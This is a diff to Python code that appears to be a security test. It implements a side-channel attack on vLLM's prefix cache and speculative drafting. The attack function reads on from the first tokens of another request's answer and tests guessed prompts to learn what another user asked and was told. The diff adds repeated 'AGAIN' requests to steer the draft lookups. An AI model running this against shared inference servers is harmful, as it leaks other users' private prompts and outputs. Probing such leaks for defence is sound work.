@@ -18,6 +18,7 @@ READ = 24
 _NOTES = " ".join(f"Row {number}: river {number * 7}, {number * 31} km." for number in range(30))
 SECRET = f"<|user|>{_NOTES} Now list 9 animals, then 7 cities.<|end|><|assistant|>"
 """Half of it fills a block of vLLM's prefix cache, which has 128 tokens on a CPU."""
+AGAIN = "<|user|>Count to 30.<|end|><|assistant|>"
 Call = Callable[[str, Mapping[str, Any]], list[dict[str, Any]]]
 """(key, fields) → the chunks of a stream."""
 
@@ -79,15 +80,19 @@ def choices(chunks: Sequence[Mapping[str, Any]]) -> Iterator[Mapping[str, Any]]:
 
 
 def secret_answer(call: Call, key: str, seed: int, **fields: Any) -> list[int]:
-    """An answer that stands nowhere else: hot, and from a seed that nobody knows."""
+    """An answer that stands nowhere else: hot, and from an unknown seed."""
     hot = {"temperature": 1.2, "max_tokens": KNOWN + READ + 8, "seed": seed}
     return tokens_of(ask(call, key, prompt=SECRET, **hot, **fields))
 
 
 def attack(call: Call, key: str, answer: Sequence[int], **fields: Any) -> Seen:
-    """Reads on from the first tokens of an answer, guesses its prompt, and notes all it is told."""
+    """Reads on from the first tokens of an answer, guesses its prompt, and notes all that it is answered."""
     words, seen = list(answer[:KNOWN]), Seen([], [], [], [])
     while len(words) < KNOWN + READ:
+        # What is read is drafted and, as the output is forced, refused: from that lookups learn to
+        # distrust past outputs, which an answer that comes again makes good.
+        for _ in range(2):
+            ask(call, key, prompt=AGAIN, max_tokens=40, temperature=0, **fields)
         # The last known token is forced, so that a draft continues the known ones.
         chunks = ask(
             call,
@@ -104,11 +109,11 @@ def attack(call: Call, key: str, answer: Sequence[int], **fields: Any) -> Seen:
         if not drafts:
             break
         words += drafts
-    # Without a trace: does this stand in somebody's answer?
+    # Without a trace: is this in another's answer?
     for length in (KNOWN, KNOWN + READ // 2):
         prompt = list(answer[:length])
         note(seen, ask(call, key, prompt=prompt, max_tokens=6, seed=1, **fields))
-    # And this in somebody's prompt?
+    # And this in another's prompt?
     whole = tokenizer()(SECRET)["input_ids"]
     for guess in (whole, [*whole[: len(whole) // 2], *range(100, 120)]):
         note(seen, ask(call, key, prompt=guess, max_tokens=1, **fields))
